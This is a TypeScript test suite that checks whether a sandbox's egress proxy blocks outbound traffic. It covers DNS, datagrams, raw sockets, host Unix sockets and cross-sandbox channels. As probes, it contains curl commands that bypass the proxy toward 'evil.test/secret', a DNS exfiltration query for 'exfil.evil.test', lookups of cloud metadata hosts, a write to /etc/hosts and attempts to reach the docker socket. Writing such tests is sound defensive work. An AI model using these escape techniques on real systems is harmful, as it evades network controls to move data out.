/**
 * The corpus a third way: the same bytes, sent by a program inside a real sandbox to the proxy's port there, and the
 * rows that only exist there: transparent connections, datagrams, raw sockets, and ways around the proxy. For any
 * backend; what each test came to is recorded, so that two backends can be compared.
 */
import { once } from "node:events"
import { connect, createServer, type Socket } from "node:net"
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
import { createProxyWith, type EgressProxy } from "../../src/egress-proxy/proxy.ts"
import type { Verdict } from "../../src/egress-proxy/types.ts"
import type { Denial, SandboxBackend } from "../../src/sandbox/backend.ts"
import { alpn, hello, serverName } from "../egress-proxy/tls/hello-bytes.ts"
import { echo, startUpstream, type Upstream } from "../egress-proxy/harness.ts"
import { type Occupant, occupy, proxyPort } from "../support/occupant.ts"
import { corpusPolicy, egressCases, publicAddress } from "./egress-cases.ts"
import { faultsOnWire, judgePure, runOnWire } from "./egress-runner.ts"

interface Served extends AsyncDisposable {
  readonly proxy: EgressProxy
  readonly verdicts: Verdict[]
  readonly dialled: string[]
  readonly upstream: Upstream
}
/** Told what a test came to, under the test's own name, in order. */
export type Recorder = (test: string, came: unknown) => void

/** Declares the tests. `backend` is asked for when they run. */
export const egressFromInside = (backend: () => SandboxBackend, record: Recorder = () => {}): void => {
  let occupant: Occupant
  let current = ""
  const came = (what: unknown): void => record(current, what)
  const verdictText = ({ decision, reason, protocol, host, port }: Verdict): string =>
    [decision, reason, protocol, host, reason === "self" ? "a port of its own" : port].join(" ")

  beforeAll(async () => {
    occupant = await occupy(backend())
  })
  beforeEach(({ task }) => {
    current = task.name
  })
  afterAll(async () => {
    await occupant?.[Symbol.asyncDispose]()
  })

  describe("the egress corpus from inside a sandbox", () => {
    const dial = (proxy: EgressProxy): Promise<Socket> => {
      proxy.serve(occupant.channel)
      return occupant.dial("127.0.0.1", proxyPort)
    }
    for (const one of egressCases) {
      it(`row ${one.row}: ${one.name} → ${one.reason}`, async () => {
        const seen = await runOnWire(one, { dial })
        came([seen.verdicts.map(verdictText), seen.dialled, seen.resolved])
        expect(faultsOnWire(one, seen)).toEqual([])
        if (one.wireOnly !== true) expect(seen.verdicts.at(-1)?.reason).toBe(judgePure(one))
      })
    }
  })

  /** The corpus policy over the occupant's channel, in front of an echo. */
  async function served(who: Occupant = occupant, egress: readonly string[] = corpusPolicy.egress): Promise<Served> {
    const upstream = await startUpstream(echo)
    const verdicts: Verdict[] = []
    const dialled: string[] = []
    const proxy = await createProxyWith(
      {
        egress,
        resolve: () => [publicAddress],
        dial(address, port) {
          dialled.push(`${address} ${port}`)
          return connect(upstream.port, "127.0.0.1")
        },
        onVerdict: (verdict) => verdicts.push(verdict),
        limits: { lingerMs: 20 },
      },
      {},
    )
    proxy.serve(who.channel)
    return {
      proxy,
      verdicts,
      dialled,
      upstream,
      async [Symbol.asyncDispose]() {
        came([verdicts.map(verdictText), dialled])
        await proxy.close()
        await upstream[Symbol.asyncDispose]()
      },
    }
  }

  const closed = (socket: Socket): Promise<string> =>
    new Promise((resolve) => {
      let saw = ""
      socket.on("data", (chunk: Buffer) => {
        saw += chunk.toString("latin1")
      })
      socket.on("end", () => socket.end())
      socket.on("close", () => resolve(saw))
    })
  const echoes = async (socket: Socket, text: string): Promise<void> => {
    socket.write(text, "latin1")
    const [bytes] = (await once(socket, "data")) as [Buffer]
    expect(bytes.toString("latin1")).toBe(text)
    socket.destroy()
  }
  /** Ends a sandbox; what its taps saw. */
  const leave = async (own: Occupant): Promise<readonly Denial[]> => {
    const { denied } = await own.leave()
    came(denied.map(({ layer, reason, target }) => `${layer} ${reason} ${target}`).sort())
    return denied
  }
  const python = (source: string) => occupant.run(["/usr/bin/python3", "-c", source], { seconds: 20 })

  describe("programs that know no proxy, from inside a sandbox", () => {
    it("row 98: reach a tcp:// entry by its name alone, at the vetted address", async () => {
      await using world = await served()
      const [address = ""] = await occupant.lookup("db.good.test")
      expect(address).toMatch(/^198\.1[89]\./)
      await echoes(await occupant.dial(address, 5432), "startup")
      await echoes(await occupant.dial("db.good.test", 5432), "startup")
      expect(world.verdicts.at(-1)).toMatchObject({
        decision: "allow",
        protocol: "tcp",
        host: "db.good.test",
        port: 5432,
        address: publicAddress,
      })
      expect(world.dialled).toEqual([`${publicAddress} 5432`, `${publicAddress} 5432`])
    })

    it("row 98: reach a web entry by TLS with its name, and with no other", async () => {
      await using world = await served()
      const good = hello({ extensions: [serverName("api.good.test"), alpn("h2")] }).toString("latin1")
      await echoes(await occupant.dial("api.good.test", 443), good)
      const bad = await occupant.dial("api.good.test", 443)
      bad.write(hello({ extensions: [serverName("evil.test")] }))
      await closed(bad)
      expect(world.verdicts.at(-1)).toMatchObject({ decision: "deny", reason: "sni_mismatch", protocol: "tcp" })
    })

    it("row 26: are refused at a port that the name is not declared with", async () => {
      await using world = await served()
      await closed(await occupant.dial("api.good.test", 5432))
      expect(world.verdicts.at(-1)).toMatchObject({
        decision: "deny",
        reason: "port_not_allowed",
        host: "api.good.test",
        port: 5432,
      })
    })

    it("rows 61, 66: hear no at once about every other name, and no query leaves", async () => {
      await using world = await served()
      for (const name of [
        "evil.test",
        "mfrggzdf.evil.test",
        "cdn.good.test",
        "metadata.google.internal",
        "host.docker.internal",
      ]) {
        await expect(occupant.lookup(name)).rejects.toMatchObject({ kind: "gaierror" })
        expect(world.verdicts.at(-1)).toMatchObject({ decision: "deny", protocol: "dns", host: name })
      }
      expect(world.dialled).toEqual([])
    })

    it("row 99: are refused at an address that this sandbox was never given", async () => {
      await using world = await served()
      for (const [address, reason] of [
        ["93.184.216.34", "no_binding"],
        ["8.8.8.8", "no_binding"],
        ["169.254.169.254", "metadata"],
        ["10.0.0.1", "private"],
        ["198.18.200.200", "stale_binding"],
      ] as const) {
        expect(await closed(await occupant.dial(address, 5432))).toBe("")
        expect(world.verdicts.at(-1)).toMatchObject({ decision: "deny", reason, host: address, port: 5432 })
      }
      expect(world.dialled).toEqual([])
    })

    it("row 100: are refused at an address of before a policy change, and of another proxy", async () => {
      await using world = await served()
      const [address = ""] = await occupant.lookup("db.good.test")
      world.proxy.update({ egress: ["tcp://other.good.test:5432", "tcp://db.good.test:5432"] })
      await occupant.lookup("other.good.test")
      await closed(await occupant.dial(address, 5432))
      expect(world.verdicts.at(-1)).toMatchObject({ decision: "deny", reason: "stale_binding", port: 5432 })
      expect(world.dialled).toEqual([])
    })

    it("row 65: cannot say themselves where a name leads", async () => {
      await using world = await served()
      const wrote = await python("open('/etc/hosts','a').write('10.0.0.1 db.good.test\\n')")
      expect(wrote.code).not.toBe(0)
      await echoes(await occupant.dial("db.good.test", 5432), "x")
      expect(world.dialled).toEqual([`${publicAddress} 5432`])
    })
  })

  describe("what is no TCP connection to the channel, from inside a sandbox", () => {
    it("rows 62, 101: datagrams to anywhere but the resolver are refused and recorded", async () => {
      await using own = await occupy(backend())
      await using world = await served(own)
      const query = Buffer.from("\x01\x02\x01\0\0\x01\0\0\0\0\0\0\x05exfil\x04evil\x04test\0\0\x01\0\x01", "latin1")
      for (const [address, port] of [
        ["8.8.8.8", 53],
        ["93.184.216.34", 443],
        ["93.184.216.34", 123],
        ["198.18.0.1", 443],
      ] as const) {
        await expect(own.datagram(address, port, query), `${address}:${port}`).rejects.toMatchObject({
          kind: "ConnectionRefusedError",
        })
      }
      for (const port of [53, 853, 4433])
        await expect(own.dial("8.8.8.8", port), `tcp ${port}`).rejects.toMatchObject({ kind: "ConnectionRefusedError" })
      expect((await own.datagram("127.0.0.1", 53, query)).readUInt16BE(2) & 15).toBe(3)
      expect(world.verdicts.at(-1)).toMatchObject({ decision: "deny", protocol: "dns", host: "exfil.evil.test" })
      const denied = await leave(own)
      const targets = denied.map(({ target }) => target)
      for (const target of [
        "exfil.evil.test",
        "udp://93.184.216.34:443",
        "udp://93.184.216.34:123",
        "8.8.8.8:53",
        "8.8.8.8:853",
        "8.8.8.8:4433",
      ])
        expect(targets).toContain(target)
    })

    it("row 101: raw, packet, vsock and other sockets cannot be made", async () => {
      const families = `
import socket, json
out = {}
for name, args in {"icmp raw": (2, 3, 1), "icmp ping": (2, 2, 1), "tcp raw": (2, 3, 6), "packet": (17, 3, 0x300), "vsock": (40, 1, 0), "netlink": (16, 3, 0), "bluetooth": (31, 3, 1), "can": (29, 3, 1), "alg": (38, 5, 0), "sctp": (2, 1, 132), "mptcp": (2, 1, 262)}.items():
    try:
        made = socket.socket(*args)
        if name == "icmp ping":
            made.settimeout(1); made.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1", ("8.8.8.8", 0)); out[name] = "sent"
        else: out[name] = "made"
    except OSError as error: out[name] = type(error).__name__
print(json.dumps(out))`
      const made = JSON.parse((await python(families)).stdout) as Record<string, string>
      came(made)
      for (const family of ["icmp raw", "icmp ping", "tcp raw", "packet", "vsock", "bluetooth", "can", "alg"])
        expect(made[family], family).not.toMatch(/made|sent/)
    })
  })

  describe("ways around the proxy, from inside a sandbox", () => {
    const evil = "http://evil.test/secret"
    const ways: readonly (readonly [string, readonly string[]])[] = [
      ["--noproxy '*'", ["--noproxy", "*", evil]],
      ["no proxy variables", [evil]],
      ["--resolve to a raw address", ["--noproxy", "*", "--resolve", "evil.test:80:93.184.216.34", evil]],
      ["--connect-to a raw address", ["--noproxy", "*", "--connect-to", "evil.test:80:93.184.216.34:80", evil]],
      [
        "--resolve of a declared name",
        ["--noproxy", "*", "--resolve", "plain.good.test:80:93.184.216.34", "http://plain.good.test/secret"],
      ],
      ["a raw address", ["--noproxy", "*", "http://93.184.216.34/secret"]],
      ["the host's own loopback", ["--noproxy", "*", "http://127.0.0.1/secret"]],
      ["an interface that is not there", ["--noproxy", "*", "--interface", "eth0", evil]],
    ]
    for (const [name, args] of ways) {
      it(`row 102: curl with ${name} gets nowhere`, async () => {
        await using world = await served()
        const ran = await occupant.run(["/usr/bin/curl", "-sS", "-m", "10", ...args], { bare: true })
        // Whether a refused connection is seen as closed or as reset is a matter of timing.
        came([ran.code !== 0, ran.stdout])
        expect(ran.code).not.toBe(0)
        expect(ran.stdout).toBe("")
        expect(world.dialled).toEqual([])
        if (!name.startsWith("an interface")) expect(world.verdicts.at(-1)).toMatchObject({ decision: "deny" })
      })
    }

    it("row 102: --connect-to and --resolve through the proxy are judged by what is asked of it", async () => {
      await using world = await served()
      const proxied = ["/usr/bin/curl", "-sS", "-m", "10", "-x", `http://127.0.0.1:${proxyPort}`]
      const moved = await occupant.run(
        [...proxied, "-p", "--connect-to", "plain.good.test:80:evil.test:80", "http://plain.good.test/"],
        { bare: true },
      )
      expect(moved.code).not.toBe(0)
      expect(world.verdicts.at(-1)).toMatchObject({ decision: "deny", reason: "host_not_allowed", host: "evil.test" })
      expect(world.dialled).toEqual([])
    })

    it("row 103: the proxy's port on any other address is no proxy", async () => {
      await using own = await occupy(backend())
      await using world = await served(own)
      const others = ["93.184.216.34", "198.18.0.1", "10.0.0.1"]
      for (const address of others)
        await expect(own.dial(address, proxyPort)).rejects.toMatchObject({ kind: "ConnectionRefusedError" })
      const denied = await leave(own)
      expect(denied).toEqual(
        others.map((address) => ({
          layer: "egress",
          reason: "address_not_allowed",
          target: `${address}:${proxyPort}`,
          count: 1,
        })),
      )
      expect(world.dialled).toEqual([])
    })

    it("row 104: no socket of the host is there, by path or by abstract name", async () => {
      const name = `\0caisson-corpus-${process.pid}`
      const abstract = createServer((socket) => socket.end("host"))
      await new Promise<void>((resolve) => abstract.listen(name, resolve))
      try {
        const probe = connect(name)
        await once(probe, "data")
        const tried = await python(`
import os, socket, stat
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys")): folders[:] = []; continue
    for file in files + folders:
        try:
            if stat.S_ISSOCK(os.lstat(os.path.join(root, file)).st_mode): print("socket", os.path.join(root, file))
        except OSError: pass
for address in ["\\0" + ${JSON.stringify(name.slice(1))}, "/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"]:
    try: socket.socket(socket.AF_UNIX).connect(address); print("reached", address)
    except OSError: pass
print("SSH_AUTH_SOCK" in os.environ, "DBUS_SESSION_BUS_ADDRESS" in os.environ, "DISPLAY" in os.environ)`)
        expect(tried).toMatchObject({ code: 0, stdout: "False False False\n" })
      } finally {
        await new Promise((resolve) => abstract.close(resolve))
      }
    })

    it("rows 105, 106: a channel is of use to its own sandbox alone", async () => {
      await using neighbour = await occupy(backend())
      await using mine = await served(occupant, ["tcp://mine.test:5432"])
      await using theirs = await served(neighbour, ["tcp://theirs.test:5432"])
      await echoes(await neighbour.dial("theirs.test", 5432), "theirs")
      const [address = ""] = await neighbour.lookup("theirs.test")
      await closed(await occupant.dial(address, 5432))
      await expect(occupant.lookup("theirs.test")).rejects.toMatchObject({ kind: "gaierror" })
      const socket = await occupant.dial("127.0.0.1", proxyPort)
      socket.write("CONNECT theirs.test:5432 HTTP/1.1\r\n\r\n")
      expect(await closed(socket)).toContain("host_not_allowed")
      expect(mine.dialled).toEqual([])
      expect(mine.verdicts.every(({ decision }) => decision === "deny")).toBe(true)
      expect(theirs.dialled.length).toBe(1)
      // Nor to a process of the host, whose loopback is another.
      const before = mine.verdicts.length + theirs.verdicts.length
      const outside = connect(proxyPort, "127.0.0.1").on("error", () => {})
      outside.end("CONNECT theirs.test:5432 HTTP/1.1\r\n\r\n")
      await new Promise((resolve) => outside.once("close", resolve).resume())
      expect(mine.verdicts.length + theirs.verdicts.length).toBe(before)
    })
  })
}
